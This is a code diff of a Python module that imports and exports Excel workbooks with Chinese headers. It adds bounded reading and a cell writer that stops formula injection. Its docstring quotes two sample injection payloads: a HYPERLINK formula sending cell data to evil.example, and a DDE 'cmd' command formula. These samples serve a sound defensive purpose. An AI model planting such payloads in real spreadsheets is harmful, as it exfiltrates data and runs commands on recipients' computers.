@@ -1,27 +1,36 @@
 """Workbooks people exchange: reading an uploaded .xlsx table and writing one with Chinese
-headers that opens cleanly in Excel and WPS. No Django here."""
+headers that opens cleanly in Excel and WPS. No Django here.
+
+Reading goes through `sheetreader`, which keeps a hostile upload within bounds of size, shape
+and time. Writing goes through `write_workbook`, and every cell it writes through `_cell`, which
+keeps text as text: a complaint's subject ``=HYPERLINK("http://evil.example/?x="&A2,"查看详情")``
+or a registration answer ``=cmd|' /C calc'!A0`` must reach the staff who download the list as
+the words the citizen typed, never as a formula Excel or WPS would run.
+"""
 
 from __future__ import annotations
 
+import contextlib
+import datetime
 import io
-import zipfile
-from collections.abc import Iterable, Sequence
+from collections.abc import Iterable, Iterator, Sequence
 from dataclasses import dataclass
 
-from openpyxl import Workbook, load_workbook
+from openpyxl import Workbook
+from openpyxl.cell import WriteOnlyCell
+from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
 from openpyxl.styles import Alignment, Font, PatternFill
 from openpyxl.utils import get_column_letter
+from openpyxl.worksheet.datavalidation import DataValidation
+
+from .sheetreader import MAX_COLUMNS, READ_SECONDS, XlsxError, sheet_rows
 
 MAX_XLSX_BYTES = 10 * 1024 * 1024
 XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
-
-
-class XlsxError(Exception):
-    """A workbook that cannot be read; ``message`` says why, in Chinese."""
-
-    def __init__(self, message: str):
-        super().__init__(message)
-        self.message = message
+# The rows a header may sit in, counted from the top.
+HEADER_ROWS = 10
+# Rows read beyond a table's data-row limit: the header and blank rows between the data.
+SPARE_ROWS = 10_000
 
 
 @dataclass
@@ -36,11 +45,14 @@ def read_table(
     required: Sequence[str],
     optional: Sequence[str] = (),
     max_rows: int = 20_000,
+    seconds: float = READ_SECONDS,
 ) -> list[Row]:
     """The rows of the first sheet as ``{header: text}``, blank rows skipped.
 
     The header row is the first row that names every required column; columns are found by
-    name, so users may reorder them or add their own.
+    name, so users may reorder them or add their own. Raises ``XlsxError`` with a Chinese
+    message for a file that is not .xlsx, is broken, too large or too slow to read, has other
+    headers, no rows or more than ``max_rows``.
     """
     if len(data) > MAX_XLSX_BYTES:
         raise XlsxError(
@@ -51,44 +63,39 @@ def read_table(
         raise XlsxError(
             "文件不是 Excel 工作簿（.xlsx）。请用模板填写后上传；.xls 请先另存为 .xlsx。"
         )
-    try:
-        workbook = load_workbook(io.BytesIO(data), read_only=True, data_only=True)
-    except (zipfile.BadZipFile, KeyError, OSError, ValueError, TypeError) as error:
-        raise XlsxError(
-            "无法读取这个 Excel 文件，文件可能已损坏。请重新保存为 .xlsx 后上传。"
-        ) from error
-    try:
-        sheet = workbook.worksheets[0]
-        rows = sheet.iter_rows(values_only=True)
-        header_row, columns = _find_header(rows, required, optional)
-        table: list[Row] = []
-        for number, values in enumerate(rows, start=header_row + 1):
+    table: list[Row] = []
+    rows = sheet_rows(data, max_rows=max_rows + SPARE_ROWS, seconds=seconds)
+    with contextlib.closing(rows):
+        columns = _find_header(rows, required, optional)
+        for number, values in rows:
             texts = {name: _text(values, index) for name, index in columns.items()}
             if not any(texts.values()):
                 continue
             if len(table) >= max_rows:
                 raise XlsxError(f"表格超过 {max_rows} 行上限，请分成几个文件导入。")
             table.append(Row(number, texts))
-    finally:
-        workbook.close()
     if not table:
         raise XlsxError("表格中没有数据行。")
     return table
 
 
 def _find_header(
-    rows, required: Sequence[str], optional: Sequence[str]
-) -> tuple[int, dict[str, int]]:
-    for number, values in enumerate(rows, start=1):
+    rows: Iterator[tuple[int, tuple]], required: Sequence[str], optional: Sequence[str]
+) -> dict[str, int]:
+    """Column positions by header name, from the first row naming every required column;
+    ``rows`` is left at the row below it."""
+    for number, values in rows:
+        if number > HEADER_ROWS:
+            break
         cells = [
             str(value).strip().replace(" ", "") if value is not None else "" for value in values
         ]
         if all(name in cells for name in required):
-            columns = {name: cells.index(name) for name in (*required, *optional) if name in cells}
-            return number, columns
-        if number >= 10:
-            break
-    raise XlsxError(f"没有找到表头。第一行应包含这些列：{'、'.join(required)}。请使用下载的模板。")
+            return {name: cells.index(name) for name in (*required, *optional) if name in cells}
+    raise XlsxError(
+        f"没有找到表头。前 {HEADER_ROWS} 行、前 {MAX_COLUMNS} 列中应有一行包含这些列："
+        f"{'、'.join(required)}。请使用下载的模板。"
+    )
 
 
 def _text(values: tuple, index: int) -> str:
@@ -102,12 +109,20 @@ def _text(values: tuple, index: int) -> str:
 
 @dataclass
 class Sheet:
-    """One table of a workbook: its sheet name, the header row and the rows."""
+    """One table of a workbook: its sheet name, the header row and the rows.
+
+    ``examples`` are rows shown grey and italic below the header (a template's filled-in
+    example); ``text_columns`` name the columns Excel must keep as typed (codes, phone numbers)
+    instead of turning them into numbers; ``validations`` are dropdowns and input checks.
+    """
 
     title: str
     headers: Sequence[str]
     rows: Iterable[Sequence]
     widths: Sequence[int] | None = None
+    examples: Sequence[Sequence] = ()
+    text_columns: Sequence[str] = ()
+    validations: Sequence[DataValidation] = ()
 
 
 def write_table(
@@ -123,29 +138,83 @@ def write_table(
     return write_workbook([Sheet(title, headers, rows, widths)], notes=notes)
 
 
+TIME_FORMAT = "yyyy-mm-dd hh:mm:ss"
+_HEADER_STYLE = {
+    "font": Font(bold=True),
+    "fill": PatternFill("solid", fgColor="DDE6F3"),
+    "alignment": Alignment(vertical="center"),
+}
+_EXAMPLE_STYLE = {"font": Font(italic=True, color="808080")}
+_WRAP = Alignment(wrap_text=True, vertical="top")
+# What Excel, WPS and LibreOffice take as the start of a formula when a cell is typed or a file
+# is opened (OWASP "CSV injection"); a tab or carriage return ahead of one hides it.
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
 def write_workbook(sheets: Sequence[Sheet], *, notes: Sequence[str] = ()) -> bytes:
     """A workbook with a table sheet each (bold frozen header, sensible widths) and, if given,
-    a 说明 sheet of notes."""
-    workbook = Workbook()
-    workbook.remove(workbook.active)
+    a 说明 sheet of notes.
+
+    Written row by row (openpyxl's write-only mode): a year's audit log is tens of thousands
+    of rows, and memory stays flat where a normal workbook would not. Datetimes are shown to
+    the second, multi-line text wrapped, and text that looks like a formula stays text.
+    """
+    workbook = Workbook(write_only=True)
     for table in sheets:
         sheet = workbook.create_sheet(table.title[:31])
-        sheet.append(list(table.headers))
-        for cell in sheet[1]:
-            cell.font = Font(bold=True)
-            cell.fill = PatternFill("solid", fgColor="DDE6F3")
-            cell.alignment = Alignment(vertical="center")
-        for row in table.rows:
-            sheet.append(["" if value is None else value for value in row])
         sheet.freeze_panes = "A2"
         for index, header in enumerate(table.headers, start=1):
-            width = table.widths[index - 1] if table.widths else max(10, len(header) * 2 + 4)
-            sheet.column_dimensions[get_column_letter(index)].width = width
+            column = sheet.column_dimensions[get_column_letter(index)]
+            column.width = table.widths[index - 1] if table.widths else max(10, len(header) * 2 + 4)
+            if header in table.text_columns:
+                column.number_format = "@"  # also for the rows a person adds
+        for validation in table.validations:
+            sheet.data_validations.append(validation)
+        sheet.append([_cell(sheet, header, _HEADER_STYLE) for header in table.headers])
+        for rows, style in ((table.examples, _EXAMPLE_STYLE), (table.rows, {})):
+            styles = _column_styles(table, style)
+            for row in rows:
+                sheet.append(
+                    [
+                        _cell(sheet, value, styles[index] if index < len(styles) else style)
+                        for index, value in enumerate(row)
+                    ]
+                )
     if notes:
         help_sheet = workbook.create_sheet("说明")
-        for note in notes:
-            help_sheet.append([note])
         help_sheet.column_dimensions["A"].width = 100
+        for note in notes:
+            help_sheet.append([_cell(help_sheet, note, {})])
     buffer = io.BytesIO()
     workbook.save(buffer)
     return buffer.getvalue()
+
+
+def _column_styles(table: Sheet, style: dict) -> list[dict]:
+    """``style`` for each column, with the text format in the text columns."""
+    return [
+        {**style, "number_format": "@"} if header in table.text_columns else style
+        for header in table.headers
+    ]
+
+
+def _cell(sheet, value, style: dict) -> WriteOnlyCell:
+    """The one place a value becomes a cell."""
+    if isinstance(value, str):
+        # Control characters XML cannot hold (a vertical tab pasted into a complaint) would
+        # make openpyxl refuse the whole workbook.
+        value = ILLEGAL_CHARACTERS_RE.sub("", value)
+    cell = WriteOnlyCell(sheet, value="" if value is None else value)
+    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
+        # openpyxl stores any text starting with "=" as a formula. A string cell shows the text
+        # as typed; the quote prefix (Excel's leading apostrophe, not part of the value) keeps
+        # it text when someone edits the cell, where Excel and WPS would make it a formula.
+        cell.data_type = "s"
+        cell.quotePrefix = True
+    elif isinstance(value, datetime.datetime):
+        cell.number_format = TIME_FORMAT
+    if isinstance(value, str) and "\n" in value:
+        cell.alignment = _WRAP
+    for name, setting in style.items():
+        setattr(cell, name, setting)
+    return cell
